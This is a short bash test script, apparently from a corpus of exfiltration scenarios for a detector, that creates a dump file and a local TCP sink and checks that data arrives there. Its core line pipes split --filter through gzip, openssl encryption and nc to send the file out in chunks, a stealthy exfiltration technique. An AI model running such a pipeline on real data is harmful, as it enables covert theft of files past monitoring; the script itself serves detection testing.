#!/bin/bash
# B-split-filter: split --filter packs, encrypts and sends each piece, without a file.
# flow: split writes a pipe to a new shell for each piece; gzip, pipe, openssl, pipe, nc: some pieces pack to almost nothing.
# tools: split gzip openssl nc
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
export SINK PORT
# shellcheck disable=SC2016 # the filter's own
split -b 128k --filter='gzip -c | openssl enc -aes-256-ctr -pbkdf2 -pass pass:x | nc -N "$SINK" "$PORT"' "$D"
sleep .5
sunk 10000
